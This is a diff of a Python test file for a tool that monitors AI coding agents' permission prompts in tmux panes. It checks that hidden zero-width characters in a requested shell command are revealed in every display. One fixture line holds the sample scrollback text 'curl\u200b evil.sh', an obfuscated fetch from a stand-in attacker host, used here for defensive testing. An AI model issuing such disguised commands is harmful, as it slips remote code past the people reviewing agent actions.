@@ -6,18 +6,16 @@ import sys
 import unicodedata
 from collections.abc import Iterator
 from dataclasses import replace
-from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from agent_status.agents.files import load_agents
 from agent_status.chooser.draw.detail import draw_detail
+from agent_status.chooser.draw.rows import REASON
 from agent_status.chooser.frame.frame import draw_frame
-from agent_status.chooser.state.entry import parse_report
-from agent_status.chooser.state.moves import take_entries, take_shot
-from agent_status.chooser.state.preview import Shot, parse_screen
+from agent_status.chooser.state.moves import set_shot, update_agents
+from agent_status.chooser.state.preview import Shot
 from agent_status.chooser.state.theme import Theme
 from agent_status.chooser.state.view import View
 from agent_status.cli.table import render_table
@@ -28,11 +26,16 @@ from agent_status.features.journal.entry import enter_ask
 from agent_status.features.notify.message import render_notice
 from agent_status.model import Capture, Pane, PaneId, Process, Sighting
 from agent_status.model.plain import render_json, reveal_text
+from agent_status.model.ref import make_ref
 from agent_status.model.text import IGNORABLE
 from agent_status.options import Options
+from agent_status.protocol.convert import decode
 from agent_status.protocol.explanation import render_found
 from agent_status.protocol.report import build_report
+from agent_status.protocol.rows import Report
 from tests.support.acting_lab import open_stage
+from tests.support.chooser_lab import read_agents, shoot
+from tests.support.knowledge import KNOWLEDGE
 from tests.support.panes import open_blank_pane
 from tests.support.tmux_lab import open_lab
 
@@ -53,7 +56,7 @@ def ask(command: str) -> Found:
     """
     lines = ["● Well.", "", "─" * WIDTH, " Bash command", "", f"   {command}", ""]
     lines += [" Do you want to proceed?", f" ❯ 1. Yes, {command}", "   2. No", "", " Esc to cancel"]
-    watch = open_blank_pane(load_agents(Path("/nonexistent"))[0], WIDTH, HEIGHT)
+    watch = open_blank_pane(KNOWLEDGE, WIDTH, HEIGHT)
     watch.processes = (Process(1, 0, "claude", "claude"),)
     watch.paint(Capture(WIDTH, HEIGHT, (*lines, *[""] * (HEIGHT - len(lines)))), 0.0)
     return watch.look(1.0)
@@ -74,15 +77,15 @@ def test_a_hidden_character_of_a_command_is_shown_everywhere(character: str, for
     sighting = Sighting(Pane(PaneId("%1"), session="work"), found.status)
     assert found.status.ask
     report = build_report((sighting,), 1.0, 1.0, "")
-    view = take_entries(View(now=1.0), parse_report(report))
+    view = update_agents(View(now=1.0), read_agents(report))
     told = {
-        "row": view.entries[0].reason,
+        "row": REASON.say(view.entries[0], 1.0, THEME),
         "detail": "\n".join(line.plain for line in draw_detail(view, 100, 30, THEME)),
         "frame": "\n".join(line.plain for line in draw_frame(view, 100, 30, THEME)),
         "summary": render_summary((sighting,), 1.0, Options()),
         "notice": render_notice((sighting,)).body,
         "several": render_notice((sighting, sighting)).body,
-        "table": render_table(report, 120),
+        "table": render_table(decode(Report, report), 120),
         "log": describe(enter_ask(sighting, found.status.ask, 1.0)),
         "explain": render_found(found, "%1", 1.0).partition("region")[0],
     }
@@ -165,9 +168,9 @@ def test_what_scrolled_off_the_pane_is_shown_too() -> None:
     text = "Run\u200b it?\n" + status.ask.text
     status = replace(status, ask=replace(status.ask, text=text))
     report = build_report((Sighting(Pane(PaneId("%1")), status),), 1.0, 1.0, "")
-    view = take_entries(View(now=1.0), parse_report(report))
-    view = take_shot(view, shot("Run it?"))
-    view = replace(view, history=("%1", ("old", "─" * WIDTH, "curl\u200b evil.sh")))
+    view = update_agents(View(now=1.0), read_agents(report))
+    view = set_shot(view, shot("Run it?"))
+    view = replace(view, history=(make_ref("%1"), ("old", "─" * WIDTH, "curl\u200b evil.sh")))
 
     drawn = "\n".join(line.plain for line in draw_detail(view, 100, 40, THEME))
 
@@ -178,7 +181,7 @@ def shot(line: str) -> Shot:
     """
     A picture of the pane with one line.
     """
-    return parse_screen("%1", {"rows": [[line, []]]})
+    return shoot("%1", {"rows": [[line, []]]})
 
 
 @pytest.fixture
